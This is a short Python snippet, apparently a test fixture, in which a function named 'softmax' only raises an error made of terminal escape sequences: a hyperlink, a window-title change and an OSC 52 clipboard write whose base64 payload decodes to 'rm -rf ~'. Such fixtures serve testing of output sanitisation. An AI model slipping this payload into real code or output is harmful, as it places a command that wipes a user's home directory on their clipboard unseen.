# Raises an error whose text is a terminal's link (OSC 8) and fills its clipboard (OSC 52).
def softmax(scores, dim=-1):
    raise ValueError("\x1b]8;;http://example.org\x1b\\click\x1b]8;;\x1b\\ \x1b]52;c;cm0gLXJmIH4=\x07 \x1b]0;title\x07")
